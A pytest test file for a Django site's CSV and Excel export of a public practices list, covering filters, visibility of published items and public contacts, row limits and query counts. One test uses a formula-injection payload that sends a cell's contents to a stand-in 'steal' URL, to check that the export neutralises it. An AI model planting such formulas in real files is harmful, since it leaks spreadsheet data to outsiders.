"""Downloading the public list's results as CSV and Excel (XLSX)."""

import csv
import io
import re
from html import unescape
from urllib.parse import parse_qs, urlsplit

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from practices import views
from practices.models import Practice
from practices.spreadsheets.export import SHEET_TITLE
from practices.spreadsheets.reading import HEADINGS
from tests.factories import make_contact, make_practice, make_stage, make_theme

pytestmark = pytest.mark.django_db

LIST_URL = "/kaytannot/"
# Interface text is asserted in English: those strings are the msgids.
EN_LIST_URL = "/en/kaytannot/"
CSV_URL = "/kaytannot/lataa.csv"
XLSX_URL = "/kaytannot/lataa.xlsx"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1,"Klikkaa")'


@pytest.fixture(autouse=True)
def _finnish():
    with translation.override("fi"):
        yield


@pytest.fixture
def name_search(monkeypatch, text_search_by_name_prefix):
    """Text search stood in by a name prefix match, without spelling suggestions."""
    monkeypatch.setattr(views, "highlight_page", lambda practices, q, analysed=None: None)
    monkeypatch.setattr(views, "suggest_query", lambda q: None)


@pytest.fixture
def catalogue():
    """Published practices under two themes, and a draft, one in review and an archived one
    that share the first theme."""
    family = make_theme(slug="perhe", name_fi="Perheet")
    elderly = make_theme(slug="ikaihmiset", name_fi="Ikäihmiset")
    for name, theme in (
        ("Perhekahvila", family),
        ("Perheneuvola", family),
        ("Ikäihmisten raati", elderly),
    ):
        make_practice(name_fi=name).themes.add(theme)
    for name, status in (
        ("Luonnos perheille", Practice.Status.DRAFT),
        ("Tarkastettava perhemalli", Practice.Status.IN_REVIEW),
        ("Arkistoitu perhemalli", Practice.Status.ARCHIVED),
    ):
        make_practice(name_fi=name, status=status).themes.add(family)
    return {"family": family, "elderly": elderly}


# Reading the files back


def csv_rows(response):
    """The CSV as a list of {heading: cell}, checking that it is written as Finnish Excel reads
    it: UTF-8 with a byte order mark, fields separated by semicolons."""
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")
    reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    headings, *rows = list(reader)
    assert headings == list(HEADINGS.values())
    return [dict(zip(headings, row, strict=True)) for row in rows]


def xlsx_rows(response):
    """The workbook's sheet as a list of {heading: cell}, and the sheet for cell details."""
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook[SHEET_TITLE]
    headings, *rows = [
        ["" if value is None else value for value in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    assert headings == list(HEADINGS.values())
    return [dict(zip(headings, row, strict=True)) for row in rows], sheet


def names(rows):
    return [row[HEADINGS["name"]] for row in rows]


# The links on the list page


def download_links(html):
    """{format: (href, accessible name, visible text)} of the download links."""
    links = {}
    for match in re.finditer(r'<a href="([^"]*/lataa\.(csv|xlsx)[^"]*)"([^>]*)>(.*?)</a>', html):
        label = re.search(r'aria-label="([^"]*)"', match.group(3))
        links[match.group(2)] = (
            unescape(match.group(1)),
            unescape(label.group(1)) if label else "",
            unescape(match.group(4)),
        )
    return links


def params_of(href):
    return parse_qs(urlsplit(href).query, keep_blank_values=True)


def test_links_keep_the_search_and_filters_but_not_the_page(client, catalogue, name_search):
    response = client.get(
        EN_LIST_URL,
        {"q": "Perhe", "theme": ["perhe", "ikaihmiset"], "sort": "name", "page": "1"},
    )

    links = download_links(response.content.decode())
    assert set(links) == {"csv", "xlsx"}
    for file_format, (href, _label, _text) in links.items():
        assert urlsplit(href).path == f"/en/kaytannot/lataa.{file_format}"
        assert params_of(href) == {
            "q": ["Perhe"],
            "theme": ["perhe", "ikaihmiset"],
            "sort": ["name"],
        }
    assert links["csv"][1:] == ("Download these 2 results as CSV", "CSV")
    assert links["xlsx"][1:] == ("Download these 2 results as Excel (XLSX)", "Excel (XLSX)")


def test_the_links_download_what_the_page_lists(client, catalogue, name_search):
    query = {"q": "Perhe", "sort": "name"}
    page = client.get(LIST_URL, query)
    href = download_links(page.content.decode())["csv"][0]

    rows = csv_rows(client.get(href))

    assert names(rows) == [practice.name for practice in page.context["practices"]]
    assert names(rows) == ["Perhekahvila", "Perheneuvola"]


def test_links_follow_a_corrected_search(
    client, catalogue, monkeypatch, text_search_by_name_prefix
):
    """When the page shows the results of a spelling correction, the download has them too."""
    monkeypatch.setattr(views, "highlight_page", lambda practices, q, analysed=None: None)
    monkeypatch.setattr(views, "suggest_query", lambda q: "Ikäihm" if q == "Ikaihm" else None)

    response = client.get(EN_LIST_URL, {"q": "Ikaihm"})

    assert response.context["corrected_query"] == "Ikäihm"
    href = download_links(response.content.decode())["csv"][0]
    assert params_of(href)["q"] == ["Ikäihm"]
    assert names(csv_rows(client.get(href))) == ["Ikäihmisten raati"]


def test_no_links_without_results(client, catalogue):
    response = client.get(EN_LIST_URL, {"theme": "perhe", "start_year_min": "2090"})

    assert response.context["paginator"].count == 0
    html = response.content.decode()
    assert download_links(html) == {}
    assert "Download results" not in html


def test_no_links_when_there_are_more_results_than_can_be_downloaded(client, catalogue, settings):
    settings.PRACTICE_PUBLIC_EXPORT_MAX_ROWS = 2

    narrowed = client.get(EN_LIST_URL, {"theme": "perhe"}).content.decode()
    everything = client.get(EN_LIST_URL).content.decode()

    assert set(download_links(narrowed)) == {"csv", "xlsx"}
    assert download_links(everything) == {}
    assert (
        "The results can be downloaded when there are at most 2 of them: narrow the search "
        "to download them." in " ".join(everything.split())
    )


# The files


def test_csv_download(client, catalogue):
    response = client.get(CSV_URL, {"theme": "perhe"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="kaytannot-{today}.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = csv_rows(response)
    # Newest first, as the list shows them by default.
    assert names(rows) == ["Perheneuvola", "Perhekahvila"]
    assert {row[HEADINGS["themes"]] for row in rows} == {"Perheet"}
    assert {row[HEADINGS["status"]] for row in rows} == {"Julkaistu"}


def test_xlsx_download(client, catalogue):
    response = client.get(XLSX_URL, {"theme": "perhe", "sort": "name"})

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="kaytannot-{today}.xlsx"'
    assert response["X-Content-Type-Options"] == "nosniff"
    rows, _sheet = xlsx_rows(response)
    assert names(rows) == ["Perhekahvila", "Perheneuvola"]


def test_text_search_applies(client, catalogue, name_search):
    rows, _sheet = xlsx_rows(client.get(XLSX_URL, {"q": "Ikäihm"}))

    assert names(rows) == ["Ikäihmisten raati"]


def test_filters_combine(client, catalogue):
    stage = make_stage(slug="vakiintunut", name_fi="Vakiintunut")
    Practice.objects.filter(name_fi="Perhekahvila").update(stage=stage, start_year=2021)

    response = client.get(CSV_URL, {"theme": "perhe", "stage": "vakiintunut"})

    assert names(csv_rows(response)) == ["Perhekahvila"]


@pytest.mark.parametrize(
    "params",
    [
        {"status": ["draft", "in_review", "archived"]},
        {"status": "draft", "theme": "perhe"},
        {"include_drafts": "1", "all": "1", "published": "0"},
        {"q": "", "sort": "updated"},
    ],
)
def test_only_published_practices_whatever_is_asked(client, catalogue, params):
    for url in (CSV_URL, XLSX_URL):
        response = client.get(url, params)
        assert response.status_code == 200
        rows = csv_rows(response) if url == CSV_URL else xlsx_rows(response)[0]
        assert "Julkaistu" in {row[HEADINGS["status"]] for row in rows}
        assert {row[HEADINGS["status"]] for row in rows} == {"Julkaistu"}
        assert not any("Luonnos" in name or "perhemalli" in name for name in names(rows))


def test_only_public_contacts(client):
    public = make_contact(name="Julkinen Henkilö", email="julkinen@example.fi")
    hidden = make_contact(name="Piilotettu Henkilö", email="piilo@example.fi", is_public=False)
    make_practice(name_fi="Perhekahvila", contacts=[public, hidden])

    csv_response = client.get(CSV_URL)
    xlsx_response = client.get(XLSX_URL)

    assert b"piilo@example.fi" not in csv_response.content
    assert b"Piilotettu" not in csv_response.content
    [csv_row] = csv_rows(csv_response)
    [xlsx_row], _sheet = xlsx_rows(xlsx_response)
    for row in (csv_row, xlsx_row):
        assert row[HEADINGS["contacts"]] == "Julkinen Henkilö <julkinen@example.fi>"


def test_formulas_are_neutralised(client):
    make_practice(name_fi=HYPERLINK, summary_fi="+SUM(1;2)")

    [csv_row] = csv_rows(client.get(CSV_URL))
    [xlsx_row], sheet = xlsx_rows(client.get(XLSX_URL))

    for row in (csv_row, xlsx_row):
        assert row[HEADINGS["name"]] == "'" + HYPERLINK
        assert row[HEADINGS["summary"]] == "'+SUM(1;2)"
    name_column = list(HEADINGS).index("name") + 1
    cell = sheet.cell(row=2, column=name_column)
    assert cell.data_type == "s"
    assert not str(cell.value).startswith("=")


# Odd query strings behave as on the list page: what makes no sense is left out.


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"unknown": "x", "foo[]": "bar"}, 3),
        ({"start_year_min": "vuosi", "start_year_max": "99999"}, 3),
        ({"page": "999999999999999999999"}, 3),
        ({"page": "-1", "sort": "sideways"}, 3),
        ({"theme": ["ei-ole-olemassa", "perhe"]}, 2),
        ({"theme": "ei-ole-olemassa"}, 3),
        ({"theme": "x" * 300, "organisation_type": "alien"}, 3),
        ({"theme": "perhe\x00"}, 3),
        ({"recognised": "maybe"}, 3),
        ({"funding_programme": "p" * 500}, 3),
        ({"q": "perhe " * 2000}, 0),
    ],
)
def test_odd_query_strings(client, catalogue, name_search, params, expected):
    page = client.get(LIST_URL, params)
    assert page.status_code == 200
    assert page.context["paginator"].count == expected

    for url in (CSV_URL, XLSX_URL):
        response = client.get(url, params)
        assert response.status_code == 200
        rows = csv_rows(response) if url == CSV_URL else xlsx_rows(response)[0]
        assert len(rows) == expected


def test_only_get(client, catalogue):
    assert client.post(CSV_URL).status_code == 405
    assert client.head(CSV_URL).status_code == 200


# The limit


def test_too_many_results_are_refused_not_cut_short(client, catalogue, settings):
    settings.PRACTICE_PUBLIC_EXPORT_MAX_ROWS = 2

    for url in ("/en" + CSV_URL, "/en" + XLSX_URL):
        response = client.get(url, {"sort": "name", "page": "2"})
        assert response.status_code == 302
        assert response["Location"] == EN_LIST_URL + "?sort=name"

    page = client.get("/en" + CSV_URL, {"sort": "name"}, follow=True)
    html = " ".join(page.content.decode().split())
    assert page.redirect_chain == [(EN_LIST_URL + "?sort=name", 302)]
    assert (
        "The search has 3 results, and at most 2 practices can be downloaded at a time. "
        "Narrow the search with filters or search words, then download again." in html
    )
    # Once shown, the message is gone.
    assert "The search has 3 results" not in client.get(EN_LIST_URL).content.decode()

    # As many as the limit allows are downloaded.
    assert len(csv_rows(client.get(CSV_URL, {"theme": "perhe"}))) == 2


# Query count


def practices_with_relations(how_many):
    theme = make_theme(slug="teema")
    stage = make_stage(slug="valmis")
    for _ in range(how_many):
        contacts = [make_contact(), make_contact(is_public=False)]
        practice = make_practice(stage=stage, contacts=contacts)
        practice.themes.add(theme)


# The theme and stage look-ups, the count, the practices and the export's eight prefetches
# (themes, target groups, funders, municipalities, regions, wellbeing services counties,
# organisations, contacts); the stage and collection come in the same query.
EXPORT_QUERIES = 12


@pytest.mark.parametrize("how_many", [3, 30])
@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_query_count_does_not_grow_with_the_rows(client, django_assert_num_queries, how_many, url):
    practices_with_relations(how_many)

    with django_assert_num_queries(EXPORT_QUERIES):
        response = client.get(url, {"theme": "teema", "stage": "valmis"})

    rows = csv_rows(response) if url == CSV_URL else xlsx_rows(response)[0]
    assert len(rows) == how_many
